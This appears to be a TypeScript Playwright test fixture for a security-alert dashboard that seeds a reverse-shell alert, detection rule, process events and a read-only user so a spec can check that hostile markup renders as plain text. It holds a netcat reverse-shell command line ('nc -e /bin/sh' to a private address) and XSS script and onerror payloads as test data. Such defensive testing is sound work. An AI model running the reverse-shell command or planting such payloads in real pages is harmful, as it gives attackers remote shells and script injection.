import { randomUUID } from "node:crypto";
import { hashPassword } from "../lib/auth/passwords";
import { processDocument, seedAlert, seedEvent, seedRule, seedUpload } from "../lib/db/alert-test-fixtures";
import { createPrismaClient } from "../lib/db/client";
import { E2E_DATABASE_URL } from "./database";

/**
 * Seeds one alert straight into the end-to-end database (the one the
 * Playwright web server uses, see e2e/database.ts), with hostile markup
 * in both the guide and the event so the spec can prove it renders as text.
 */

export const HOSTILE_EVENT_VALUE = '<script>window.__keelwatchPwned = "event"</script>';
export const HOSTILE_COMMAND_LINE = "nc -e /bin/sh 10.0.0.9 4444 <img src=x onerror=alert(1)>";
export const GUIDE_HEADING = "Investigating a reverse shell from a container";
export const TRIAGE_STEPS = [
  "Identify the container and image that ran the tool.",
  "Read the full command line and the remote address.",
];

const GUIDE = `## ${GUIDE_HEADING}

A network tool connected out with a shell attached. See [MITRE T1059](https://attack.mitre.org/techniques/T1059/).

<script>window.__keelwatchPwned = "guide"</script>

| Field | Meaning |
| ----- | ------- |
| \`process.command_line\` | what ran |
`;

export const VIEWER_PASSWORD = "viewer-password-0123";

export interface SeededAlert {
  alertId: string;
  viewerUsername: string;
  relatedAlertId: string;
  relatedRuleName: string;
  cleanup: () => Promise<void>;
}

export async function seedAlertDetail(): Promise<SeededAlert> {
  const db = createPrismaClient(E2E_DATABASE_URL);
  // Asked through Prisma rather than a catalog (sqlite_master, pg_tables), so it holds on either database.
  const migrated = await db.alert.count().then(
    () => true,
    () => false,
  );
  if (!migrated) {
    await db.$disconnect();
    throw new Error(
      `The end-to-end database ${E2E_DATABASE_URL} has no tables: the web server is not using this file. ` +
        "e2e/global-setup.ts deletes .cache/e2e after Playwright has started the web server (plugins run before " +
        "globalSetup), so the server keeps a deleted file open; reset the folder before the server starts instead.",
    );
  }
  const suffix = randomUUID().slice(0, 8);
  const rule = await seedRule(db, {
    id: `e2e-detail-${suffix}`,
    name: `Reverse shell in container ${suffix}`,
    severity: "high",
    riskScore: 73,
    guide: GUIDE,
    triageSteps: TRIAGE_STEPS,
    responseSteps: ["Isolate the container."],
    threat: [
      {
        framework: "MITRE ATT&CK",
        tactic: { id: "TA0002", name: "Execution", reference: "https://attack.mitre.org/tactics/TA0002/" },
      },
    ],
  });
  const upload = await seedUpload(db, `e2e-detail-${suffix}.ndjson`);
  const shell = `sh-${suffix}`;
  const nc = `nc-${suffix}`;
  await seedEvent(db, upload.id, 1, processDocument(shell, null, "/bin/sh"));
  const trigger = await seedEvent(db, upload.id, 2, {
    ...processDocument(nc, shell, "/usr/bin/nc"),
    process: {
      entity_id: nc,
      name: "nc",
      executable: "/usr/bin/nc",
      pid: 4242,
      args: ["nc", "-e", "/bin/sh", "10.0.0.9", "4444"],
      command_line: HOSTILE_COMMAND_LINE,
      parent: { entity_id: shell, name: "sh" },
    },
    labels: { note: HOSTILE_EVENT_VALUE },
  });
  const alert = await seedAlert(db, {
    ruleId: rule.id,
    ruleName: rule.name,
    severity: "high",
    riskScore: 73,
    eventIds: [trigger.id],
    containerId: "c0ffee",
    containerName: "web",
    imageName: "nginx",
    hostName: "node-1",
    processName: "nc",
    commandLine: HOSTILE_COMMAND_LINE,
    entityId: nc,
  });
  // an earlier alert from the same container, for the related-alerts links
  const earlier = await seedAlert(db, {
    ruleId: rule.id,
    ruleName: `Earlier probe ${suffix}`,
    severity: "medium",
    riskScore: 47,
    eventIds: [],
    containerId: "c0ffee",
    containerName: "web",
    hostName: "node-2",
    processName: "dig",
    timestamp: new Date("2026-11-23T05:00:00Z"),
  });
  // a read-only colleague
  const viewer = await db.user.create({
    data: {
      username: `viewer-${suffix}`,
      displayName: `Viewer ${suffix}`,
      role: "viewer",
      passwordHash: await hashPassword(VIEWER_PASSWORD),
    },
  });
  return {
    alertId: alert.id,
    viewerUsername: viewer.username,
    relatedAlertId: earlier.id,
    relatedRuleName: earlier.ruleName,
    cleanup: async () => {
      // other specs expect an empty database; rule and upload deletions cascade to the rest
      await db.rule.delete({ where: { id: rule.id } });
      await db.upload.delete({ where: { id: upload.id } });
      await db.user.delete({ where: { id: viewer.id } });
      await db.$disconnect();
    },
  };
}
